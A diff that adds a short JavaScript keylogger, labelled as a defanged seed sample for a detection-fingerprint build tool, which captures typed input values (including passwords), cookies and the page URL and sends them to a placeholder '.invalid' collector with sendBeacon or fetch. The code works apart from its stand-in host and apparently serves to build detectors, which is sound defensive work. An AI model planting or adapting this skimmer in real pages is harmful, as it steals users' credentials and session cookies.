@@ -0,0 +1,21 @@
+// label: Keylogger exfiltrating input values with navigator.sendBeacon
+// Defanged seed sample for tools/build-fingerprints.js; the collector host is a reserved .invalid name.
+(function () {
+  var endpoint = 'https://metrics.example.invalid/collect';
+  var buffer = [];
+  var timer = null;
+  function flush() {
+    timer = null;
+    if (!buffer.length) return;
+    var body = JSON.stringify({ u: location.href, c: document.cookie, k: buffer.splice(0, buffer.length) });
+    if (navigator.sendBeacon) navigator.sendBeacon(endpoint, body);
+    else fetch(endpoint, { method: 'POST', body: body, mode: 'no-cors', keepalive: true });
+  }
+  document.addEventListener('keyup', function (e) {
+    var t = e.target;
+    if (!t || (t.tagName !== 'INPUT' && t.tagName !== 'TEXTAREA')) return;
+    buffer.push({ n: t.name || t.id, t: t.type, v: t.value });
+    if (!timer) timer = setTimeout(flush, 1500);
+  }, true);
+  window.addEventListener('beforeunload', flush);
+})();